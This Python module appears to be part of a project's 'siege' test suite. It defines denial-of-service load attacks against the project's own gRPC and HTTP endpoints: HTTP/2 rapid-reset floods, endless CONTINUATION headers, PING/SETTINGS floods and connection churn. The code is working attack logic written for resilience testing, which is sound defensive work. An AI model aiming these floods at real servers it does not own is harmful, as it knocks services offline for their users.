"""Floods of HTTP/2 frames and of connections, by clients without a key."""

from __future__ import annotations

import asyncio
from abc import abstractmethod
from contextlib import suppress
from itertools import count
from typing import TYPE_CHECKING, ClassVar, Final

from tests.siege.attacks.attack import Attack
from tests.siege.target import PAUSE, open_connection
from tests.support.raw_http2 import (
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    FRAME,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    frame_bytes,
    header_block,
    literal,
)

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.siege.target import Assault

GREETING: Final = PREFACE + frame_bytes(SETTINGS, 0, 0)
AT_ONCE: Final = 100
"""Frames that are written together."""

STUCK_SECONDS: Final = 1.0
CONNECTIONS: Final = 4
CHURNING: Final = 16


class _Frames(Attack):
    """Connections to the gRPC port that send frames without end, each made anew when it was ended."""

    async def run(self, assault: Assault) -> None:
        await asyncio.gather(*(self._repeat(assault) for _ in range(CONNECTIONS)))

    @abstractmethod
    def frames(self) -> Iterator[bytes]:
        """Yield what is written after the greeting, some frames at a time."""

    async def _repeat(self, assault: Assault) -> None:
        while not assault.over:
            assault.answers[await self._flood(assault)] += 1
            await asyncio.sleep(PAUSE)

    async def _flood(self, assault: Assault) -> str:
        """Flood one connection; return what ended it."""
        try:
            reader, writer = await open_connection(assault.target.grpc)
        except OSError as error:
            return type(error).__name__
        reading = asyncio.create_task(_read_all(reader))
        try:
            return await self._write(assault, writer, reading)
        finally:
            reading.cancel()
            await asyncio.gather(reading, return_exceptions=True)
            writer.transport.abort()

    async def _write(self, assault: Assault, writer: asyncio.StreamWriter, reading: asyncio.Task[None]) -> str:
        writer.write(GREETING)
        for frames in self.frames():
            if assault.over:
                break
            if reading.done():
                return "closed"
            writer.write(frames)
            try:
                async with asyncio.timeout(STUCK_SECONDS):
                    await writer.drain()
            except TimeoutError:
                return "read no more"
            except ConnectionError:
                return "closed"
            await asyncio.sleep(0)
        return "read to the end"


async def _read_all(reader: asyncio.StreamReader) -> None:
    with suppress(ConnectionError):
        while await reader.read(65_536):
            pass


class RapidResets(_Frames):
    """Calls that are cancelled in the moment in which they begin."""

    what: ClassVar = "4 connections without a key that open calls and reset them at once"

    def frames(self) -> Iterator[bytes]:
        block = header_block("/signalbox.v1.EventIngest/SendEvent")
        for first in count(1, 2 * AT_ONCE):
            streams = range(first, first + 2 * AT_ONCE, 2)
            yield b"".join(
                frame_bytes(HEADERS, END_HEADERS | END_STREAM, stream, block)
                + frame_bytes(RST_STREAM, 0, stream, bytes(4))
                for stream in streams
            )


class Continuations(_Frames):
    """Headers that do not end."""

    what: ClassVar = "4 connections without a key whose headers are continued without end"

    def frames(self) -> Iterator[bytes]:
        yield frame_bytes(HEADERS, 0, 1, header_block("/signalbox.v1.EventIngest/SendEvent"))
        header = literal("x-endless", "a" * 500)
        continuation = frame_bytes(CONTINUATION, 0, 1, header * (FRAME // len(header)))
        while True:
            yield continuation


class Pings(_Frames):
    """Pings and settings, each of which is to be acknowledged."""

    what: ClassVar = "4 connections without a key that send pings and settings without end"

    def frames(self) -> Iterator[bytes]:
        frames = (frame_bytes(PING, 0, 0, bytes(8)) + frame_bytes(SETTINGS, 0, 0)) * AT_ONCE
        while True:
            yield frames


class _Churn(Attack):
    """Connections that are closed as soon as they are made."""

    has_floor: ClassVar = False

    def address(self, assault: Assault) -> str:
        """Return where to connect."""
        return assault.target.http

    async def run(self, assault: Assault) -> None:
        await asyncio.gather(*(self._repeat(assault) for _ in range(CHURNING)))

    async def _repeat(self, assault: Assault) -> None:
        while not assault.over:
            try:
                _, writer = await open_connection(self.address(assault))
            except OSError as error:
                assault.answers[type(error).__name__] += 1
                await asyncio.sleep(PAUSE)
                continue
            assault.answers["connected"] += 1
            writer.write(self.greeting)
            writer.close()

    greeting: ClassVar = b"GET /healthz HTTP/1.1\r\n"


class HttpChurn(_Churn):
    """Connections to the HTTP port."""

    what: ClassVar = "16 clients without a key that connect over HTTP, send half a head and close"


class GrpcChurn(_Churn):
    """Connections to the gRPC port."""

    what: ClassVar = "16 clients without a key that connect over gRPC, send their settings and close"
    has_floor: ClassVar = True
    greeting: ClassVar = GREETING

    def address(self, assault: Assault) -> str:
        return assault.target.grpc
